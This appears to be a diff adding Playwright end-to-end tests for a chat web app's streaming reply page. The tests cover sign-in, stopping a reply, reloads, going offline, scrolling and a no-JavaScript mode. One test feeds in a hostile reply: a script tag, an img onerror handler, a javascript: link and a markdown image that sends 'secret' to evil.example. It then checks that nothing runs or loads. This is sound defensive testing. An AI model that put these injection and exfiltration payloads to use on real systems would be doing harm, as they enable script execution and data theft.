@@ -1,0 +1,277 @@
+"""The chat page in a real Chromium, against a live server and the stand-in provider."""
+
+from __future__ import annotations
+
+import shutil
+from collections.abc import Iterator
+from contextlib import contextmanager
+from typing import Any
+
+import pytest
+from playwright.sync_api import Page, expect, sync_playwright
+
+from tenants.models import Tenant
+from tests.factories import PASSWORD, email_of, point_agent
+from tests.provider import SECRET_MARKER, Answer, Provider
+from tests.servers import LiveServer, host_of, session_cookie
+
+CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser")
+pytestmark = [
+    pytest.mark.browser,
+    pytest.mark.skipif(CHROMIUM is None, reason="Chromium is not installed"),
+]
+TEXT = "[data-reply] >> nth=-1"
+
+
+class Site:
+    """A tenant's pages, and pages of a browser on them.
+
+    Rows are written before the browser starts: Playwright keeps an event loop running
+    in this thread, where Django allows no query.
+    """
+
+    def __init__(self, server: LiveServer, tenant: Tenant, provider: Provider) -> None:
+        point_agent(tenant, provider.url)
+        self.url = f"http://{host_of(tenant)}:{server.port}"
+        self.email = email_of(tenant, "member")
+        self._cookies: Any = [
+            {"name": name, "value": value, "url": self.url}
+            for name, value in session_cookie(tenant, "member").items()
+        ]
+
+    @contextmanager
+    def page(self, *, signed_in: bool = True, **options: Any) -> Iterator[Page]:
+        """A page of a browser of its own; nothing may go wrong in its console."""
+        with sync_playwright() as playwright:
+            browser = playwright.chromium.launch(
+                executable_path=CHROMIUM,
+                args=["--no-sandbox", "--disable-background-networking"],
+            )
+            context = browser.new_context(base_url=self.url, **options)
+            if signed_in:
+                context.add_cookies(self._cookies)
+            page = context.new_page()
+            page.set_default_timeout(15_000)
+            faults: list[str] = []
+            page.on("pageerror", lambda error: faults.append(str(error)))
+            page.on(
+                "console",
+                lambda said: said.type == "error" and faults.append(said.text),
+            )
+            yield page
+            browser.close()
+        assert [fault for fault in faults if "Failed to load" not in fault] == []
+
+
+@pytest.fixture
+def site(server: LiveServer, acme: Tenant, provider: Provider) -> Site:
+    return Site(server, acme, provider)
+
+
+def ask(page: Page, text: str) -> None:
+    page.get_by_label("Message", exact=True).fill(text)
+    page.keyboard.press("Enter")
+
+
+def wait_until_over(page: Page, said: str = "Reply complete") -> None:
+    expect(page.get_by_role("status")).to_have_text(said, timeout=15_000)
+
+
+def test_a_person_signs_in_asks_and_watches_the_reply_grow(
+    site: Site, provider: Provider
+) -> None:
+    provider.enqueue(Answer(text="**Bold** words " + "and more " * 40, pace=25))
+    with site.page(signed_in=False) as page:
+        page.goto("/")
+        page.keyboard.type(site.email)  # the first field has the focus
+        page.get_by_label("Password").fill(PASSWORD)
+        page.get_by_role("button", name="Sign in").click()
+        expect(page.get_by_label("Message", exact=True)).to_be_focused()
+        ask(page, "Tell me\tmore")
+        expect(page.locator(TEXT).locator("strong")).to_have_text("Bold")
+        expect(page.get_by_role("button", name="Stop")).to_be_visible()
+        grown = page.locator(TEXT).inner_text()
+        wait_until_over(page)
+        assert len(page.locator(TEXT).inner_text()) > len(grown)
+        assert "/c/" in page.url
+        listed = page.get_by_role("navigation", name="Conversations")
+        expect(listed.get_by_role("link", name="Tell me more")).to_be_visible()
+        expect(page.get_by_label("Message", exact=True)).to_have_value("")
+        expect(page.get_by_text("tokens")).to_be_visible()
+
+
+def test_what_grew_is_what_a_reload_shows(site: Site, provider: Provider) -> None:
+    reply = (
+        "# T\n\n- a\n\n- b\n\n```py\nx = 1\n```\n\n| a | b |\n|--|--|\n| 1 | 2 |\n\nEnd"
+    )
+    provider.enqueue(Answer(pieces=tuple(reply)))
+    with site.page() as page:
+        page.goto("/")
+        ask(page, "Show me")
+        wait_until_over(page)
+        grown = page.locator(TEXT).inner_text()
+        assert "x = 1" in grown
+        page.reload()
+        expect(page.locator(TEXT).get_by_role("button", name="Copy")).to_be_visible()
+        assert page.locator(TEXT).inner_text() == grown
+
+
+def test_stop_keeps_what_was_written_and_marks_it(
+    site: Site, provider: Provider
+) -> None:
+    provider.enqueue(Answer(tokens=2_000, pace=20))
+    with site.page() as page:
+        page.goto("/")
+        ask(page, "A long one")
+        expect(page.locator(TEXT)).to_contain_text("w3")
+        page.get_by_role("button", name="Stop").press("Enter")
+        expect(page.get_by_text("Stopped.")).to_be_visible()
+        expect(page.get_by_label("Message", exact=True)).to_be_focused()
+        page.reload()
+        expect(page.get_by_text("Stopped.")).to_be_visible()
+        expect(page.locator(TEXT)).to_contain_text("w3")
+
+
+def test_a_failure_is_told_in_our_words_and_can_be_tried_again(
+    site: Site, provider: Provider
+) -> None:
+    provider.enqueue(Answer(status=401, error_message=SECRET_MARKER))
+    with site.page() as page:
+        page.goto("/")
+        ask(page, "Will it work?")
+        wait_until_over(page, "The reply is not complete")
+        expect(page.get_by_text("The provider refused our API key")).to_be_visible()
+        assert SECRET_MARKER not in page.content()
+        provider.enqueue(Answer(text="Yes, now."))
+        page.get_by_role("button", name="Try again").click()
+        wait_until_over(page)
+        expect(page.locator(".mark:visible")).to_have_count(0)
+        expect(page.locator(TEXT)).to_have_text("Yes, now.")
+
+
+def test_a_stream_that_breaks_off_is_never_shown_as_complete(
+    site: Site, provider: Provider
+) -> None:
+    provider.enqueue(Answer(tokens=40, fault="close", fault_after=20))
+    with site.page() as page:
+        page.goto("/")
+        ask(page, "Go on")
+        wait_until_over(page, "The reply is not complete")
+        expect(page.get_by_text("stopped in the middle")).to_be_visible()
+        expect(page.locator(TEXT)).to_contain_text("w19")
+
+
+def test_a_reload_in_mid_reply_joins_it_without_losing_a_word(
+    site: Site, provider: Provider
+) -> None:
+    provider.enqueue(Answer(tokens=60, pace=20))
+    with site.page() as page:
+        page.goto("/")
+        ask(page, "Count")
+        expect(page.locator(TEXT)).to_contain_text("w5")
+        page.reload()
+        wait_until_over(page)
+        words = " ".join(f"w{number}" for number in range(60))
+        expect(page.locator(TEXT)).to_have_text(words)
+
+
+def test_what_was_typed_survives_a_dead_line_and_a_reload(
+    site: Site, provider: Provider
+) -> None:
+    with site.page() as page:
+        page.goto("/")
+        page.context.set_offline(True)
+        ask(page, "Do not lose me")
+        expect(page.get_by_role("alert")).to_contain_text("cannot be reached")
+        expect(page.get_by_label("Message", exact=True)).to_have_value("Do not lose me")
+        page.context.set_offline(False)
+        page.reload()
+        expect(page.get_by_label("Message", exact=True)).to_have_value("Do not lose me")
+        provider.enqueue(Answer(text="Kept."))
+        page.get_by_role("button", name="Send").click()
+        wait_until_over(page)
+        expect(page.get_by_text("Do not lose me", exact=True).first).to_be_visible()
+
+
+def test_the_view_follows_the_text_unless_the_reader_scrolled_up(
+    site: Site, provider: Provider
+) -> None:
+    provider.enqueue(Answer(text="A line.\n\n" * 150, pace=60))
+    with site.page(viewport={"width": 800, "height": 500}) as page:
+        page.goto("/")
+        ask(page, "Scroll")
+        page.wait_for_timeout(1_500)
+        to_end = page.get_by_role("button", name="Go to the newest text")
+        expect(to_end).to_be_hidden()
+        assert page.evaluate("scrollY") > 0
+        page.mouse.move(400, 200)
+        page.mouse.wheel(0, -200)
+        expect(to_end).to_be_visible()
+        held = page.evaluate("scrollY")
+        wait_until_over(page)
+        assert page.evaluate("scrollY") == held
+        to_end.click()
+        expect(to_end).to_be_hidden()
+
+
+def test_a_reply_can_neither_run_nor_load_anything(
+    site: Site, provider: Provider
+) -> None:
+    reply = (
+        "<script>document.title = 'taken'</script>\n\n<img src=x onerror=alert(1)> "
+        "![pixel](https://evil.example/pixel.png?q=secret) [go](javascript:alert(1))"
+    )
+    provider.enqueue(Answer(text=reply))
+    with site.page() as page:
+        asked: list[str] = []
+        page.on("request", lambda request: asked.append(request.url))
+        page.on("dialog", lambda dialog: asked.append(dialog.message))
+        page.goto("/")
+        ask(page, "Attack")
+        wait_until_over(page)
+        expect(page.locator(TEXT)).to_contain_text("<script>")
+        assert page.locator(TEXT).locator("img, script").count() == 0
+        assert all(url.startswith(site.url) for url in asked)
+        assert page.title().startswith("Attack")
+
+
+def test_without_scripts_one_can_sign_in_ask_read_stop_and_archive(
+    site: Site, provider: Provider
+) -> None:
+    with site.page(signed_in=False, java_script_enabled=False) as page:
+        page.goto("/")
+        page.get_by_label("E-mail").fill(site.email)
+        page.get_by_label("Password").fill(PASSWORD)
+        page.get_by_role("button", name="Sign in").click()
+        provider.enqueue(Answer(text="*Plain* answer."))
+        page.get_by_label("Message", exact=True).fill("Plain question\nof two lines")
+        page.get_by_role("button", name="Send").click()
+        # The page reloads itself until the reply is there.
+        expect(page.locator(TEXT).locator("em")).to_have_text("Plain", timeout=15_000)
+        provider.enqueue(Answer(tokens=2_000, pace=20))
+        page.get_by_label("Message", exact=True).fill("Another")
+        page.get_by_role("button", name="Send").click()
+        page.get_by_role("button", name="Stop").click()
+        expect(page.get_by_text("Stopped.")).to_be_visible(timeout=15_000)
+        page.get_by_role("button", name="Archive").click()
+        expect(page.get_by_text("Your conversations will be listed")).to_be_visible()
+
+
+def test_the_page_is_light(site: Site) -> None:
+    with site.page() as page:
+        session = page.context.new_cdp_session(page)
+        session.send("Network.enable")
+        arrived: list[float] = []
+        session.on(
+            "Network.loadingFinished",
+            lambda event: arrived.append(event["encodedDataLength"]),
+        )
+        page.goto("/", wait_until="networkidle")
+        scripts = page.evaluate(
+            "performance.getEntriesByType('resource')"
+            ".filter((entry) => entry.name.endsWith('.js'))"
+            ".map((entry) => entry.decodedBodySize)"
+        )
+        assert len(arrived) <= 10
+        assert sum(arrived) <= 60_000
+        assert 0 < sum(scripts) <= 100_000
